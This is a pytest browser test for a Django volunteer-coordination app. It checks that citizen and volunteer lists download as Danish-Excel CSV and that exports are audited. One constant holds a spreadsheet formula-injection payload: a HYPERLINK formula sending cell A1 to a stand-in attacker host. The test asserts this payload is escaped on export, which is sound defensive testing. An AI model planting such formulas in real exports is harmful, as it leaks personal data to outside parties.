"""A coordinator downloads her citizens and her volunteers as CSV and opens them as Danish Excel does."""

import csv
import io

import pytest

from community.models import AuditEntry
from community.tests.factories import CitizenFactory, UserFactory, coordinator, core_task
from tests.browser.menu import follow_main_menu

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'

WORDS = {
    "da": {
        "citizens": "Borgere",
        "volunteers": "Frivilligoverblik",
        "download": "Hent som CSV",
        "download_volunteers": "Hent frivillige som CSV",
        "columns": ["Nummer", "Fornavn", "Efternavn", "E-mail", "Telefon"],
        "address": "Adresse",
        "phone": "Telefon",
        "wants": "Vil gerne",
        "visiting": "Besøgsven",
        "menu": {"menu": "Hovedmenu", "more": "Mere"},
    },
    "en": {
        "citizens": "Citizens",
        "volunteers": "Volunteer dashboard",
        "download": "Download as CSV",
        "download_volunteers": "Download volunteers as CSV",
        "columns": ["Number", "First name", "Last name", "E-mail", "Phone"],
        "address": "Address",
        "phone": "Phone",
        "wants": "Would like to",
        "visiting": "Visiting friend",
        "menu": {"menu": "Main menu", "more": "More"},
    },
}


def _sheet(download) -> list[dict]:
    """The file as Danish Excel reads it: UTF-8 told by the BOM, a column at each semicolon."""
    raw = open(download.path(), "rb").read()
    assert raw.startswith("\ufeff".encode())
    header, *rows = csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";")
    return header, [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("language", ["da", "en"])
def test_a_coordinator_downloads_her_citizens_and_volunteers_as_csv(
    page, live_server, login, language
):
    from volunteers.tests.factories import VolunteerFactory

    w = WORDS[language]
    birthe = coordinator("social-omsorg", email="birthe@example.dk")
    CitizenFactory(
        first_name="Åse", last_name="Ærø", street=HOSTILE, core_tasks=[core_task("social-omsorg")]
    )
    VolunteerFactory(user=UserFactory(first_name="Mette", last_name="Øby", phone="20 30 40 50"))

    login(page, birthe)
    page.goto(live_server.url + "/")
    if language == "en":
        page.get_by_role("button", name="English").click()
        page.wait_for_load_state()
    follow_main_menu(page, w["citizens"], **w["menu"])
    with page.expect_download() as citizens:
        page.get_by_role("link", name=w["download"]).click()
    header, rows = _sheet(citizens.value)
    assert header[:5] == w["columns"]
    (aase,) = rows
    assert aase[w["columns"][2]] == "Ærø"
    assert aase[w["address"]].startswith("'=HYPERLINK(")
    assert AuditEntry.objects.filter(action="citizen.exported", actor=birthe).count() == 1

    follow_main_menu(page, w["volunteers"], **w["menu"])
    with page.expect_download() as volunteers:
        page.get_by_role("link", name=w["download_volunteers"]).click()
    header, rows = _sheet(volunteers.value)
    mette = next(r for r in rows if r[w["columns"][2]] == "Øby")
    assert mette[w["phone"]] == "20 30 40 50"
    assert mette[w["wants"]] == w["visiting"]
